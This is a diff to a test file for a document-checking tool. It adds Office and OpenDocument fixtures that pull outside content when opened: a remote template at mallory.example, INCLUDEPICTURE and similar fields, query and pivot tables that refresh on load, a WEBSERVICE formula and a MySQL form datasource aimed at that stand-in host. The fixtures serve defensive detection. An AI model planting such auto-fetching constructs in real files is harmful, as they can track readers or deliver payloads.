@@ -31,6 +31,28 @@ const withPart = (name: string, kind: string, body: string): Package => {
 const connections = (attributes: string) =>
   withPart('xl/connections.xml', 'connections', `<connections><connection id="1" ${attributes}/></connections>`);
 
+const query = (attributes: string) =>
+  withPart('xl/queryTables/queryTable1.xml', 'queryTable', `<queryTable name="a" connectionId="1" ${attributes}/>`);
+const pivot = (source: string) =>
+  withPart(
+    'xl/pivotCache/pivotCacheDefinition1.xml',
+    'pivotCacheDefinition',
+    `<pivotCacheDefinition refreshOnLoad="1"><cacheSource ${source}/></pivotCacheDefinition>`,
+  );
+const TEMPLATE = [
+  'rId5',
+  'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate',
+  'https://mallory.example/a.dotx',
+  'External',
+] as const;
+const templated = (attribute: string): Package => {
+  const { parts, relations } = letter(undefined, [TEMPLATE]);
+  const spaces = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="urn:r"`;
+  const body = `<w:settings ${spaces}><w:attachedTemplate r:id="rId5"/><w:linkStyles${attribute}/></w:settings>`;
+  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml';
+  return { parts: { ...parts, 'word/settings.xml': [type, body] }, relations };
+};
+
 const OFFICE: readonly (readonly [name: string, file: Package, label: string])[] = [
   ['a text of another file', letter(complex(' INCLUDETEXT ', '"https://mallory.example/a.docx"')), 'unknown · not-fully-covered'],
   ['the same, its name in two pieces', letter(complex(' INCLU', 'DETEXT "a.docx"')), 'unknown · not-fully-covered'],
@@ -51,6 +73,12 @@ const OFFICE: readonly (readonly [name: string, file: Package, label: string])[]
     ]),
     'unknown · not-fully-covered',
   ],
+  ...[' INCLUDEPICTURE "https://mallory.example/a.png" ', ' INCLUDE a.docx ', ' IMPORT a.png ', ' RD a.docx '].map(
+    (one) => [`a field${one}`, letter(complex(one)), 'unknown · not-fully-covered'] as const,
+  ),
+  ['a link to a place with such a name', letter(complex(' REF include ')), 'authentic · document'],
+  ['the look of a template', templated(''), 'unknown · not-fully-covered'],
+  ['the look that a template had when it was written', templated(' w:val="0"'), 'authentic · document'],
   ['the title, behind another field', letter(complex(' PAGE') + complex('TITLE ')), 'unknown · not-fully-covered'],
   [
     'the title, around another field',
@@ -79,6 +107,10 @@ const OFFICE: readonly (readonly [name: string, file: Package, label: string])[]
   ['data that are fetched on opening, in other letters', connections('refreshOnLoad="&#49;"'), 'unknown · not-fully-covered'],
   ['data whose name speaks of it', connections(`name="refreshOnLoad='1'"`), 'authentic · document'],
   ['data that were fetched when it was written', connections('refreshOnLoad="0"'), 'authentic · document'],
+  ['rows that are asked for on opening', query('refreshOnLoad="1"'), 'unknown · not-fully-covered'],
+  ['rows that were asked for when it was written', query(''), 'authentic · document'],
+  ['sums of other data that are made anew on opening', pivot('type="external" connectionId="1"'), 'unknown · not-fully-covered'],
+  ['sums of the same table that are made anew on opening', pivot('type="worksheet"'), 'authentic · document'],
 ];
 
 test.each(OFFICE)('in an Office file: %s', async (_name, file, label) => {
@@ -87,6 +119,7 @@ test.each(OFFICE)('in an Office file: %s', async (_name, file, label) => {
 
 const FORM = 'urn:oasis:names:tc:opendocument:xmlns:form:1.0';
 const image = (address: string) => text(`<form:image-frame xmlns:form="${FORM}" form:image-data="${address}"></form:image-frame>`);
+const rows = (source: string) => text(`<form:form xmlns:form="${FORM}" form:datasource="${source}"></form:form>`);
 /** Attributes stand in the order of their namespaces, as in canonical form. */
 const cell = (formula: string) => {
   const files = table();
@@ -101,6 +134,8 @@ test.each([
     text('<xf:instance xmlns:xf="http://www.w3.org/2002/xforms" src="https://mallory.example/a.xml"></xf:instance>'),
     'unknown · not-fully-covered',
   ],
+  ['rows of a form', rows('sdbc:mysql:jdbc:mallory.example/a'), 'unknown · not-fully-covered'],
+  ['rows of a form, by the name of their source', rows('Bibliography'), 'authentic · document'],
   ['a formula that asks a service', cell('of:=WEBSERVICE(&quot;https://mallory.example&quot;)'), 'unknown · not-fully-covered'],
   ['a cell of another file', cell("of:=['file:///a.ods'#$Sheet1.A1]"), 'unknown · not-fully-covered'],
   ['a picture of a form inside of the file', image('Pictures/a.png'), 'authentic · document'],
